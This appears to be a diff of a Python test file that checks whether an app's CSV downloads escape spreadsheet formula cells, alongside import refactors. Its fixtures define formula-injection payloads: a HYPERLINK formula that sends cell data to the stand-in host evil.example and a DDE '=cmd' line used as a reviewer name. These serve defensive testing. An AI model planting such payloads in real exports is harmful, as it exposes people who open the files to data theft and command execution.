@@ -18,16 +18,18 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 from sqlalchemy import select
 
-from core import audit, audits
-from core.cli import main
-from core.db import session_scope
+from core import audit
+from core.accounts.service import command_line_user
+from core.cli.main import main
 from core.ingest import import_file
-from core.models import User
-from core.reports import export
-from core.reports.ab import compare_versions
+from core.oversight import service as oversight
+from core.oversight.trail import TrailFilter
+from core.reports.ab import export
+from core.reports.ab.chatbot import compare_versions
 from core.reports.csv_safe import FORMULA_STARTS, to_csv
 from core.reports.filters import Filters
-from core.reports.trail import TrailFilter
+from core.store.db import session_scope
+from core.store.models import User
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 REVIEWER = "=cmd|' /C calc'!A0"
@@ -87,7 +89,7 @@ def test_a_carriage_return_inside_a_cell_cannot_start_a_row_with_a_formula(write
 @pytest.fixture
 def hostile(engine, tmp_path: Path):
     """Judgments by a reviewer named like a formula, of versions named like formulas, with a HYPERLINK rationale;
-    an experiment whose variants are named like formulas; an audit event by that reviewer."""
+    an experiment whose variants are named like formulas; an audit event by that reviewer; an admin to act as."""
     rows = [
         {"prompt_id": f"p{i}", "prompt": f"Q{i}?", "model_a": VERSION_A, "response_a": f"a{i}"}
         | {"model_b": VERSION_B, "response_b": f"b{i}", "choice": "ab"[i % 2], "strength": "clear"}
@@ -110,6 +112,7 @@ def hostile(engine, tmp_path: Path):
     with session_scope(engine, write=True) as s:
         reviewer = s.execute(select(User.id).where(User.username == REVIEWER)).scalar_one()
         audit.record(s, actor_id=reviewer, action="rating.update", entity="rating", entity_id=1, after={})
+        s.add(User(username="admin", role="admin"))  # the commands (and the page below) act as the only admin
     return engine
 
 
@@ -148,6 +151,7 @@ def test_the_ab_pages_table_downloads_escape_formula_cells(hostile):
 
 
 def test_the_audit_trail_pages_download_escapes_formula_cells(hostile):
-    text, written = audits.trail_csv(TrailFilter(), limit=1_000, engine=hostile)
+    admin = command_line_user(engine=hostile)
+    text, written = oversight.trail_csv(actor=admin, filters=TrailFilter(), limit=1_000, engine=hostile)
     found = cells(text)
     assert written > 0 and "'" + REVIEWER in found and not [c for c in found if risky(c)]
